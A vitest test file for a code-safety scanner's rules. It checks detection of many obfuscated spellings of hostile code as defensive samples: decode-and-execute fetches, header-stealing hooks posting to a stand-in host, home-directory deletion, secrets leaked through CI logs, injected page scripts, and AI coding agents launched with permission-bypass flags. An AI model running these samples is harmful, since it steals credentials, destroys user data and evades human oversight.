/** One deed in many spellings: each is found as its plainest form is, and what only looks like it is not. */
import { describe, expect, it } from 'vitest';
import { findingGroup } from '../../format/finding/finding.ts';
import { deriveCapabilities } from '../capabilities.ts';
import { riskOf } from '../risk.ts';
import { scan } from '../scan.ts';
import { testBuild } from '../test-build.ts';
import { allRules } from './all.ts';

/** The codes of the findings that count, and the risk. */
function judge(code: string, path = 'a.mjs'): string {
  const found = scan(testBuild({ [path]: code }), allRules);
  const codes = found.filter((one) => findingGroup(one) === 'safety' && one.level !== 'info');
  return [riskOf(found), ...new Set(codes.map((one) => one.code))].join(' ');
}

describe('a constructor of functions', () => {
  const code = "atob('ZmV0Y2goImh0dHBzOi8vYy5vdGhlci1tZXRyaWNzLmNvbS94Iik7')";
  it.each([
    `(async () => {}).constructor(${code})()`,
    `Object.getPrototypeOf(async () => {}).constructor('a', ${code})()`,
    `Object.getPrototypeOf(function* () {}).constructor(${code})().next()`,
    `Reflect.getPrototypeOf(async function* () {})['constructor'](${code})()`,
    `(() => {}).__proto__.constructor(${code})()`,
    `const { constructor: F } = async () => {}; new F(${code})()`,
    `Reflect.get(() => {}, 'constructor')(${code})()`,
    `Reflect.construct(Object.getPrototypeOf(() => {}).constructor, [${code}], Object)()`,
    `Object.getPrototypeOf(async () => {}).constructor.call(null, ${code})()`,
  ])('%s', (text) => {
    expect(judge(text)).toBe('danger decode-execute');
  });
  it.each([
    `class A { again() { return new this.constructor(${code}); } }`,
    `Object.getPrototypeOf(this).constructor(${code})`,
    `Object.getPrototypeOf(async () => {}).constructor.name + ${code}`,
    `const isAsync = (f) => f instanceof Object.getPrototypeOf(async () => {}).constructor; ${code}`,
  ])('not %s', (text) => {
    expect(judge(text)).toBe('ok');
  });
});

describe('a module of the platform', () => {
  const run = ".execSync('curl x.io')";
  it.each([
    `process.getBuiltinModule('node:child_process')${run}`,
    `const { process: p } = globalThis; p['getBuiltin' + 'Module']('child_process')${run}`,
    `import { getBuiltinModule as get } from 'node:process'; get('child_process')${run}`,
    `Reflect.apply(process.getBuiltinModule, process, ['child_process'])${run}`,
    `import { Module as M } from 'module'; M.createRequire('/')('child_process')${run}`,
    `process.mainModule.constructor._load('child_process')${run}`,
    `require.main.require('child_process')${run}`,
    `module.parent.require('child_process')${run}`,
    `new (require('module'))('a').require('child_process')${run}`,
    `const r = require; r(['child', 'process'].join('_'))${run}`,
    `import.meta.require('child_process')${run}`,
    `(await import('node:child_process'))${run}`,
    "process.binding('spawn_sync').spawn({ file: 'curl', args: ['x.io'] })",
    "new (process._linkedBinding('process_wrap').Process)().spawn({ file: 'curl' })",
    "import { execa as run } from 'execa'; run('curl x.io')",
  ])('starts a process, in a file and in a wired block: %s', (text) => {
    const [none, code] = [testBuild({}), testBuild({ 'a.ts': text })];
    expect(deriveCapabilities(code).processes).toEqual(['curl']);
    expect(deriveCapabilities(none, code).processes).toEqual(['curl']);
  });
  it.each([
    "process.getBuiltinModule('node:path').join('curl', 'x.io')",
    `const module = { parent: {} }; module.parent.require('child_process')${run}`,
    `import { createRequire } from 'module'; createRequire('/').resolve('child_process')`,
  ])('starts none: %s', (text) => {
    expect(deriveCapabilities(testBuild({ 'a.ts': text })).processes).toEqual([]);
  });
});

describe('a deletion of what the user has', () => {
  const imports = `import fs from 'node:fs'; import { rm } from 'fs/promises'; import os from 'os';
import { join, resolve } from 'path'; import { execSync, execFile } from 'child_process'; const { homedir, userInfo } = os; const all = { recursive: true };`;
  it.each([
    'rm(join(homedir(), "Documents"), all)',
    'rm(join(homedir(), "."), all)',
    'await fs.promises.rm(`${os.homedir()}/Desktop`, all)',
    'fs.rmSync(resolve(process.env.HOME, "Pictures"), all)',
    'rm(process.env.USERPROFILE ?? homedir(), all)',
    'rm(userInfo().homedir, all)',
    'for (const d of ["Documents", "Desktop"]) rm(join(homedir(), d), all)',
    'import { rimrafSync } from "rimraf"; rimrafSync(homedir() + "/*")',
    'import fse from "fs-extra"; fse.remove(join(homedir(), "AppData"))',
    'import { deleteAsync } from "del"; deleteAsync([`${homedir()}/**`], { force: true })',
    'import sh from "shelljs"; sh.rm("-rf", homedir())',
    'Deno.remove(process.env.HOME, all)',
    'execSync("rm -rf " + homedir() + "/Documents")',
    'execFile("rm", ["-rf", homedir()])',
  ])('%s', (text) => {
    expect(judge(`${imports}\n${text}`)).toMatch(/^caution destructive/);
  });
  it.each([
    'rm(join(homedir(), ".cache", "x"), all)',
    'rm(join(homedir(), "Documents", "x.tmp"), all)',
    'fs.unlinkSync(join(homedir(), "Documents"))',
    'rm(process.env.HOME ? join(process.env.HOME, ".x") : "/", all)',
    'fs.readdirSync(homedir()).forEach((f) => rm(join(process.env.CACHE, f), all))',
  ])('not %s', (text) => {
    expect(judge(`${imports}\n${text}`)).toBe('ok');
  });
});

describe('a hook that sends what others send', () => {
  const send = "real('https://c.other-metrics.com/x', { method: 'POST', body: ";
  const imports = "import https from 'https'; import http from 'http'; const real = fetch;";
  it.each([
    `https.request = function (o, done) { ${send}JSON.stringify(o.headers) }); };`,
    `https.get = (...args) => { ${send}args[0].headers.authorization }); };`,
    `globalThis.fetch = async (input, init) => { ${send}JSON.stringify(init.headers) }); };`,
    `window.fetch = (input, { body }) => { ${send}body }); };`,
    `XMLHttpRequest.prototype.send = function (body) { ${send}body }); };`,
    `http.ClientRequest.prototype.setHeader = function (name, value) { ${send}name + value }); };`,
    `import axios from 'axios'; axios.interceptors.request.use((c) => { ${send}c.headers.common }); return c; });`,
    `import axios from 'axios'; axios.create().interceptors.response.use((r) => { ${send}r.config.data }); });`,
  ])('%s', (text) => {
    expect(judge(`${imports}\n${text}`)).toMatch(/^danger credential-theft/);
  });
  it.each([
    `export const log = (req, res, next) => { ${send}JSON.stringify(req.headers) }); next(); };`,
    `app.post('/in', async (request, reply) => { ${send}request.body.password }); });`,
    `const seen = ({ headers }) => ${send}headers.cookie }); app.use((req, res) => seen(req));`,
  ])('in a handler: %s', (text) => {
    expect(judge(`${imports}\n${text}`)).toMatch(/^caution credential-theft/);
  });
  it.each([
    `globalThis.fetch = (input, init) => real(input, { ...init, headers: { a: 'b' } });`,
    `https.request = (o) => { ${send}o.host }); };`,
    `https.request = (o) => real(process.env.LOGS, { body: o.headers });`,
    `app.use((req, res) => { real('https://api.shop.io/x', { headers: { authorization: req.headers.authorization } }); });`,
    `app.use((req, res) => { real('https://api.shop.io/x', { headers: req.headers, body: JSON.stringify(req.body) }); });`,
  ])('not %s', (text) => {
    expect(judge(`${imports}\n${text}`).replace(/ dependency-\S+/, '')).toBe('ok');
  });
});

describe('secrets in a log that nothing masks', () => {
  const imports = `import * as core from '@actions/core'; import fs from 'fs'; import zlib from 'zlib';
const all = JSON.stringify(process.env), twice = (x) => btoa(btoa(x));`;
  it.each([
    "console.log(Buffer.from(all).toString('base64'))",
    'console.error(twice(all))',
    "process.stdout.write(Buffer.from(Object.values(process.env).join()).toString('hex'))",
    'console.info(`::set-output name=x::${btoa(all)}`)',
    "core.setOutput('x', Buffer.from(all).toString('base64url'))",
    "fs.appendFileSync(process.env.GITHUB_STEP_SUMMARY, zlib.gzipSync(all).toString('base64'))",
    "const { log } = console; log(btoa(fs.readFileSync('/root/.ssh/id_rsa', 'utf8')))",
  ])('%s', (text) => {
    expect(judge(`${imports}\n${text}`)).toMatch(/^danger data-exfiltration/);
  });
  it.each([
    'console.log(all)',
    "console.log(Buffer.from(process.env.npm_package_version).toString('base64'))",
    "import { createHash } from 'crypto'; console.log(createHash('sha256').update(all).digest('hex'))",
    "fs.appendFileSync(process.env.GITHUB_OUTPUT, `v=${btoa('1.0')}`)",
  ])('not %s', (text) => {
    expect(judge(`${imports}\n${text}`).replace(/ dependency-\S+/, '')).toBe('ok');
  });
});

describe('a script of a stranger in a page', () => {
  it.each([
    ["res.send('<script src=//metrics-x.com/x.js></script>')", 'a.js'],
    [
      'const at = ["//metrics-x", "com/x.js"].join("."); send(`<script src="${at}"></script>`)',
      'a.js',
    ],
    ['<head><SCRIPT async\n  src = "https://metrics-x.com/x.js"></SCRIPT></head>', 'a.html'],
    ['export const A = () => <script defer src="https://metrics-x.com/x.js" />;', 'a.tsx'],
    ['<Script src={"https://metrics-x.com/x.js"} strategy="lazyOnload" />;', 'a.tsx'],
    [
      'AT = "https://metrics-x.com"\nPAGE = f"<script src=\'{AT}/x.js\'></script>"\nimport os',
      'a.py',
    ],
    ['<script src="https://cdn.jsdelivr.net.metrics-x.com/a.js"></script>', 'a.vue'],
  ])('%s', (text, path) => {
    expect(judge(text, path)).toMatch(/^caution page-script/);
  });
  it.each([
    '<script src="https://metrics-x.com/x.js" integrity="sha384-abc" crossorigin></script>',
    '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>',
    '<script src="https://cdn.jsdelivr.net/npm/htmx.org@2"></script><script src="/app.js"></script>',
    '<link href="https://fonts.googleapis.com/css2" rel="stylesheet"><img src="//metrics-x.com/a.png">',
    '<script src="http://localhost:35729/livereload.js"></script>',
  ])('not %s', (text) => {
    expect(judge(text, 'a.html')).toBe('ok');
  });
});

describe('an assistant that asks nobody', () => {
  it.each([
    [
      "require('child_process').spawn('claude', ['--dangerously-skip-permissions', '-p', x])",
      'a.js',
    ],
    ["require('child_process').exec(`npx @google/gemini-cli --yolo -p '${x}'`)", 'a.js'],
    ["import { execa } from 'execa'; execa('codex', ['exec', '--full-auto', x])", 'a.mjs'],
    [
      'import subprocess\nsubprocess.run(["q", "chat", "--trust-all-tools", "--no-interactive", x])',
      'a.py',
    ],
    ['{"scripts":{"x":"codex --dangerously-bypass-approvals-and-sandbox exec x"}}', 'package.json'],
    ['set -e\ncursor-agent -p --force "$1"\n', 'a.sh'],
    ['claude --permission-mode bypassPermissions -p "$1"\n', 'a.sh'],
  ])('%s', (text, path) => {
    expect(judge(text, path)).toMatch(/unattended-agent-command/);
  });
  it.each([
    ["require('child_process').spawn('claude', ['--allowedTools', 'Read', '-p', x])", 'a.js'],
    ['gemini -p "$1" && rm --force x\nnpx -y @google/gemini-cli\n', 'a.sh'],
    ['{"scripts":{"x":"yarn --yes create codex && git push --force"}}', 'package.json'],
    ['Never start it with `--dangerously-skip-permissions`.', 'a.md'],
  ])('not %s', (text, path) => {
    expect(judge(text, path)).toBe('ok');
  });
});
